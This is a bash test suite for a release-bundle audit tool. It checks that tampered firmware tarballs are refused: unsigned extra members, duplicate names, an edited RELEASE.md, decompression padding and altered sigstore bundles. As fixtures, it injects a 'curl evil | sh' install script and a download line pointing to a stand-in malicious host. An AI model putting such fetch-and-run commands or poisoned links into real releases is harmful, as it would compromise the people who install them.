#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# audit passes a bundle only when every byte in it is vouched for: exactly
# the members the signed statements name, each once, RELEASE.md as it is
# regenerated from them, and the envelopes authenticated before anything is
# extracted, so a padded bundle never reaches the disk.  RELEASE.md tells
# auditors to use their own trusted copy of the key.  Each signed statement
# is also there as a sigstore bundle v0.3 that sigstore-js and openssl
# verify; a bundle from before those (none of them) is still auditable.
. "$(dirname "$0")/lib.sh"

mkdir -p "$T/r/src"
cat >"$T/r/src/Makefile" <<'MK'
all:
	mkdir -p out
	$(CROSS_COMPILE)gcc -march=$(MARCH) -mabi=$(MABI) -c hello.c -o out/hello.o
	printf 'notes\n' > out/notes.txt
MK
echo 'int hello(void) { return 42; }' >"$T/r/src/hello.c"
cat >"$T/r/recipe.json" <<'JSON'
{"name": "hello", "kind": "firmware", "version": "fwT1.r1.20260112", "source": "src",
 "toolchain": "riscv64-unknown-elf",
 "target": {"triple": "riscv64-unknown-elf", "march": "rv64imac", "mabi": "lp64"},
 "source_date_epoch": 1768176000, "steps": ["make"], "outputs": ["out/hello.o", "out/notes.txt"]}
JSON
"$LOCKSTEP" keygen -o "$T/k" >/dev/null 2>&1
expect_exit "release of a small recipe" 0 "$LOCKSTEP" release -q "$T/r/recipe.json" --key "$T/k" -o "$T/rel"
B="$T/rel/hello-fwT1.r1.20260112.tar"
expect_exit "audit of the untouched bundle passes" 0 "$LOCKSTEP" audit "$B" --pubkey "$T/k.pub" --no-rebuild

# edit OUT PY: OUT is the bundle rewritten by the Python body PY, which
# gets `members` (TarInfo, bytes) in order and may change it.
edit() {
	local out=$1 body=$2
	python3 - "$B" "$out" <<PY
import io, sys, tarfile
src = tarfile.open(sys.argv[1])
members = [(m, src.extractfile(m).read() if m.isfile() else None) for m in src.getmembers()]
def file(name, data):
    ti = tarfile.TarInfo(name); ti.size = len(data); ti.mtime = 1768176000; ti.mode = 0o644
    return (ti, data)
$body
with tarfile.open(sys.argv[2], "w", format=tarfile.PAX_FORMAT) as out:
    for m, data in members:
        if data is not None:
            m.size = len(data)
        out.addfile(m, io.BytesIO(data) if data is not None else None)
PY
}
audit() { "$LOCKSTEP" audit "$1" --pubkey "$T/k.pub" --no-rebuild; }

# An unsigned extra artifact beside the signed ones.
edit "$T/extra.tar" 'members.append(file("artifacts/fw-update.bin", b"\x7fELF evil"))'
expect_err "an extra unsigned member is refused, named" 1 \
	'extra.tar: member "artifacts/fw-update.bin": not named by the signed statements' audit "$T/extra.tar"
edit "$T/extra-top.tar" 'members.append(file("install.sh", b"curl evil | sh\n"))'
expect_err "an extra unsigned member at the top is refused, named" 1 \
	'member "install.sh": not named by the signed statements' audit "$T/extra-top.tar"
edit "$T/extra-dir.tar" 'ti = tarfile.TarInfo("docs"); ti.type = tarfile.DIRTYPE; ti.mode = 0o755; members.append((ti, None))'
expect_err "an extra directory is refused, named" 1 'member "docs/": not named by the signed statements' audit "$T/extra-dir.tar"

# A member the statements name, missing.
edit "$T/missing.tar" 'members = [x for x in members if x[0].name != "artifacts/notes.txt"]'
expect_err "a missing signed artifact is refused, named" 1 'member "artifacts/notes.txt": missing' audit "$T/missing.tar"

# RELEASE.md edited: another key id, another download link.
edit "$T/md.tar" 'members = [(m, d.replace(b"YOUR-TRUSTED-COPY", b"pubkey") if m.name == "RELEASE.md" else d) for m, d in members]'
expect_err "an edited RELEASE.md is refused" 1 'RELEASE.md: differs from the one regenerated from the signed provenance' audit "$T/md.tar"
edit "$T/md2.tar" 'members = [(m, d + b"\nDownload the update from http://evil.example/\n" if m.name == "RELEASE.md" else d) for m, d in members]'
expect_err "a RELEASE.md with a line appended is refused" 1 'RELEASE.md: differs' audit "$T/md2.tar"

# The same name twice, the signed copy last: a first-match reader (tar -xO,
# many unpackers) gets the other bytes, a last-match extractor the signed.
edit "$T/dup.tar" '
i = [m.name for m, d in members].index("artifacts/hello.o")
members.insert(i, file("artifacts/hello.o", b"\x7fELF not the signed one"))'
check "the duplicate bundle's first copy is the unsigned one" \
	bash -c "tar -xOf '$T/dup.tar' artifacts/hello.o 2>/dev/null | head -c 40 | grep -q 'not the signed one'"
expect_err "a member named twice (signed copy last) is refused" 1 \
	'member "artifacts/hello.o": appears more than once' audit "$T/dup.tar"
edit "$T/dup-env.tar" '
i = [m.name for m, d in members].index("provenance.intoto.json")
members.insert(i + 1, members[i])'
expect_err "an envelope named twice is refused" 1 'member "provenance.intoto.json": appears more than once' audit "$T/dup-env.tar"

# A big unsigned member in a small compressed bundle: refused from the
# listing and the signatures, before one byte of it is written.
python3 - "$B" "$T/big.tar.gz" <<'PY'
import gzip, io, sys, tarfile
class Zeros(io.RawIOBase):
    def __init__(self, n): self.left = n
    def readable(self): return True
    def readinto(self, b):
        n = min(len(b), self.left); b[:n] = bytes(n); self.left -= n; return n
size = 512 << 20
src = tarfile.open(sys.argv[1])
with gzip.open(sys.argv[2], "wb", compresslevel=1) as gz, tarfile.open(fileobj=gz, mode="w", format=tarfile.PAX_FORMAT) as out:
    ti = tarfile.TarInfo("artifacts/padding.bin"); ti.size = size; ti.mtime = 1768176000
    out.addfile(ti, Zeros(size))
    for m in src.getmembers():
        out.addfile(m, src.extractfile(m) if m.isfile() else None)
PY
check "the padded bundle is small" [ "$(stat -c %s "$T/big.tar.gz")" -lt $((4 << 20)) ]
mkdir -p "$T/atmp"
# The audit's work directory is watched the whole time it runs.
(
	max=0
	while [ ! -e "$T/audit-done" ]; do
		s=$(du -sk "$T/atmp" 2>/dev/null | cut -f1); [ "${s:-0}" -gt "$max" ] && max=$s
		echo "$max" >"$T/atmp-max"; sleep 0.05
	done
) &
watcher=$!
TMPDIR="$T/atmp" "$LOCKSTEP" audit "$T/big.tar.gz" --pubkey "$T/k.pub" --no-rebuild >"$T/out" 2>"$T/err"; rc=$?
touch "$T/audit-done"; wait $watcher
check "the padded bundle is refused (exit 1), naming the member" \
	bash -c "[ $rc -eq 1 ] && grep -q 'member \"artifacts/padding.bin\": not named by the signed statements' '$T/err'"
check "nothing of the padding reached the disk (work directory stayed under 1 MiB)" \
	[ "$(cat "$T/atmp-max")" -lt 1024 ]
check "the audit's work directory is gone" [ -z "$(ls -A "$T/atmp")" ]

# An envelope beyond the size cap is refused without being read whole.
edit "$T/huge-env.tar" 'members = [(m, d + b" " * (17 << 20) if m.name == "verification.intoto.json" else d) for m, d in members]'
expect_err "an oversized envelope is refused by the cap" 2 'verification.intoto.json": larger than' audit "$T/huge-env.tar"

# What RELEASE.md tells an auditor.
check "RELEASE.md tells auditors to use their own trusted copy of the key" \
	grep -q 'lockstep audit BUNDLE --pubkey YOUR-TRUSTED-COPY.pem' "$T/rel/RELEASE.md"
check "RELEASE.md does not tell auditors to use the bundled pubkey.pem" \
	bash -c "! grep -q -- '--pubkey pubkey.pem' '$T/rel/RELEASE.md'"
check "the RELEASE.md beside the bundle is the one inside it" \
	cmp -s "$T/rel/RELEASE.md" <(tar -xOf "$B" RELEASE.md)

# Each signed statement is also in the bundle as a sigstore bundle v0.3:
# the same envelope, the key named by its hint, for sigstore tooling.
SIGNED="provenance verification sbom"
mkdir -p "$T/sx"; tar -xf "$B" -C "$T/sx"
for n in $SIGNED; do
	check "$n.sigstore.json is in the bundle beside $n.intoto.json" test -f "$T/sx/$n.sigstore.json"
done
check "each is a v0.3 bundle naming the release key by its hint, no log entries, the envelope's payload and signature" \
	python3 - "$T/sx" "$(openssl pkey -pubin -in "$T/k.pub" -outform DER | openssl dgst -sha256 -binary | base64 -w0)" $SIGNED <<'PY'
import json, sys
d, hint = sys.argv[1:3]
for n in sys.argv[3:]:
    b = json.load(open(f"{d}/{n}.sigstore.json")); e = json.load(open(f"{d}/{n}.intoto.json"))
    assert b["mediaType"] == "application/vnd.dev.sigstore.bundle.v0.3+json", n
    assert b["verificationMaterial"] == {"publicKey": {"hint": hint}, "tlogEntries": []}, n
    env = b["dsseEnvelope"]
    assert (env["payloadType"], env["payload"]) == (e["payloadType"], e["payload"]), n
    assert env["signatures"] == [{"sig": e["signatures"][0]["sig"]}], n
PY
# The bytes are those `lockstep sign --bundle` writes for the same statement
# and key (Ed25519 signs deterministically): nothing of the moment in them.
ok=1
for n in $SIGNED; do
	python3 -c 'import base64, json, sys; sys.stdout.buffer.write(base64.b64decode(json.load(open(sys.argv[1]))["payload"]))' \
		"$T/sx/$n.intoto.json" >"$T/sx/$n.statement"
	"$LOCKSTEP" sign "$T/sx/$n.statement" --key "$T/k" -o "$T/sx/$n.again.intoto.json" \
		--bundle "$T/sx/$n.again.sigstore.json" >/dev/null 2>&1 || ok=0
	cmp -s "$T/sx/$n.sigstore.json" "$T/sx/$n.again.sigstore.json" || ok=0
done
check "each sigstore member is byte for byte what lockstep sign --bundle makes of that statement" [ "$ok" = 1 ]

# Independent checks: sigstore-js with the release key alone, and the
# openssl command line over the DSSE PAE rebuilt from the sigstore bundle.
if ! command -v node >/dev/null || [ ! -d "$TOP/tests/npm/node_modules/@sigstore/verify" ]; then
	skip "sigstore-js verifies each sigstore member (sigstore-js is not installed: run scripts/install-deps)"
else
	for n in $SIGNED; do
		expect_exit "sigstore-js verifies $n.sigstore.json with the release public key" 0 \
			node "$TOP/tests/npm/verify-bundle.js" "$T/sx/$n.sigstore.json" "$T/k.pub"
	done
	"$LOCKSTEP" keygen -o "$T/k2" >/dev/null 2>&1
	expect_err "sigstore-js rejects it with another key (the check can fail)" 1 'key not found' \
		node "$TOP/tests/npm/verify-bundle.js" "$T/sx/provenance.sigstore.json" "$T/k2.pub"
fi
# pae BUNDLE: writes BUNDLE.pae and BUNDLE.sig from its dsseEnvelope.
pae() {
	python3 - "$1" <<'PY'
import base64, json, sys
e = json.load(open(sys.argv[1]))["dsseEnvelope"]
body = base64.b64decode(e["payload"]); t = e["payloadType"].encode()
open(sys.argv[1] + ".pae", "wb").write(b"DSSEv1 %d %s %d %s" % (len(t), t, len(body), body))
open(sys.argv[1] + ".sig", "wb").write(base64.b64decode(e["signatures"][0]["sig"]))
PY
}
for n in $SIGNED; do
	pae "$T/sx/$n.sigstore.json"
	check "openssl verifies the PAE signature of $n.sigstore.json with the release key" \
		openssl pkeyutl -verify -pubin -inkey "$T/k.pub" -rawin -in "$T/sx/$n.sigstore.json.pae" \
		-sigfile "$T/sx/$n.sigstore.json.sig"
done
printf x >>"$T/sx/sbom.sigstore.json.pae"
check "openssl rejects it over a changed PAE (the check can fail)" bash -c "! openssl pkeyutl -verify -pubin \
	-inkey '$T/k.pub' -rawin -in '$T/sx/sbom.sigstore.json.pae' -sigfile '$T/sx/sbom.sigstore.json.sig' >/dev/null 2>&1"

# What audit refuses in them, naming the member.
expect_exit "audit reports each sigstore member checked" 0 audit "$B"
check "... one line for each" bash -c "[ \$(grep -c 'sigstore.json: signature good, the statement of' '$T/out') -eq 3 ]"
# resign NAME EXPR: the edit() body that parses member NAME as b, changes it
# by EXPR (flip(S, I) flips byte I of base64 S) and writes it back.
resign() {
	printf 'import base64, json\ndef flip(s, i):\n    x = bytearray(base64.b64decode(s)); x[i] ^= 1; return base64.b64encode(bytes(x)).decode()\nfor i, (m, d) in enumerate(members):\n    if m.name == "%s":\n        b = json.loads(d)\n        %s\n        members[i] = (m, json.dumps(b).encode())\n' "$1" "$2"
}
edit "$T/s-sig.tar" "$(resign verification.sigstore.json 'b["dsseEnvelope"]["signatures"][0]["sig"] = flip(b["dsseEnvelope"]["signatures"][0]["sig"], 9)')"
expect_err "a flipped signature byte in a sigstore member is refused, named" 1 \
	's-sig.tar: verification.sigstore.json: bad signature' audit "$T/s-sig.tar"
edit "$T/s-pay.tar" "$(resign sbom.sigstore.json 'b["dsseEnvelope"]["payload"] = flip(b["dsseEnvelope"]["payload"], 40)')"
expect_err "a flipped payload byte in a sigstore member is refused, named" 1 \
	's-pay.tar: sbom.sigstore.json: bad signature' audit "$T/s-pay.tar"
# Properly signed, but another statement: the SBOM's bundle as the provenance's.
edit "$T/s-swap.tar" '
d = dict((m.name, d) for m, d in members)
members = [(m, d["sbom.sigstore.json"] if m.name == "provenance.sigstore.json" else x) for m, x in members]'
expect_err "a sigstore member holding another signed statement is refused, named" 1 \
	's-swap.tar: provenance.sigstore.json: its statement is not the one signed in provenance.intoto.json' \
	audit "$T/s-swap.tar"
edit "$T/s-hint.tar" "$(resign provenance.sigstore.json 'b["verificationMaterial"]["publicKey"]["hint"] = "AAAA"')"
expect_err "a sigstore member naming another key hint is refused, named" 1 \
	's-hint.tar: provenance.sigstore.json: "verificationMaterial.publicKey.hint": "AAAA" does not name the trusted key' \
	audit "$T/s-hint.tar"
edit "$T/s-bare.tar" '
d = dict((m.name, d) for m, d in members)
members = [(m, d["sbom.intoto.json"] if m.name == "sbom.sigstore.json" else x) for m, x in members]'
expect_err "a bare DSSE envelope as a sigstore member is refused, named" 1 \
	's-bare.tar: sbom.sigstore.json: a bare DSSE envelope' audit "$T/s-bare.tar"
edit "$T/s-tlog.tar" "$(resign sbom.sigstore.json 'b["verificationMaterial"]["tlogEntries"] = [{"logIndex": "1"}]')"
expect_err "a sigstore member with log entries lockstep cannot check is refused, named" 2 \
	's-tlog.tar: sbom.sigstore.json: "verificationMaterial.tlogEntries"' audit "$T/s-tlog.tar"
edit "$T/s-missing.tar" 'members = [x for x in members if x[0].name != "verification.sigstore.json"]'
expect_err "a bundle missing one sigstore member is refused, named" 1 \
	's-missing.tar: member "verification.sigstore.json": missing' audit "$T/s-missing.tar"
edit "$T/s-two.tar" 'members = [x for x in members if x[0].name not in ("provenance.sigstore.json", "sbom.sigstore.json")]'
expect_err "a bundle with only one of the three is refused, naming a missing one" 1 \
	's-two.tar: member "provenance.sigstore.json": missing' audit "$T/s-two.tar"
edit "$T/s-extra.tar" 'members.append(file("environment.sigstore.json", [d for m, d in members if m.name == "sbom.sigstore.json"][0]))'
expect_err "an extra sigstore member is refused, named" 1 \
	's-extra.tar: member "environment.sigstore.json": not named by the signed statements' audit "$T/s-extra.tar"

# A bundle made by a lockstep from before the sigstore members: an auditor
# holding it years later can still audit it, and is told what it lacks.
edit "$T/old.tar" 'members = [x for x in members if not x[0].name.endswith(".sigstore.json")]'
expect_exit "a bundle of the older layout (no sigstore members) passes audit" 0 audit "$T/old.tar"
check "... with a note saying it has no sigstore bundles" grep -q '^note: no sigstore bundles' "$T/out"
expect_exit "audit --json of the older layout" 0 "$LOCKSTEP" audit "$T/old.tar" --pubkey "$T/k.pub" --no-rebuild --json
check "... says sigstoreBundles absent" python3 -c 'import json, sys; o = json.load(open(sys.argv[1])); assert o["result"] == "PASSED" and o["sigstoreBundles"] == "absent"' "$T/out"
expect_exit "audit --json of the new layout" 0 "$LOCKSTEP" audit "$B" --pubkey "$T/k.pub" --no-rebuild --json
check "... says sigstoreBundles verified" python3 -c 'import json, sys; o = json.load(open(sys.argv[1])); assert o["sigstoreBundles"] == "verified"' "$T/out"
edit "$T/old-bad.tar" 'members = [x for x in members if not x[0].name.endswith(".sigstore.json")]
members = [(m, d + b"x" if m.name == "artifacts/hello.o" else d) for m, d in members]'
expect_err "an older-layout bundle is checked as always (a changed artifact is refused)" 1 \
	'artifacts/hello.o: sha256' audit "$T/old-bad.tar"
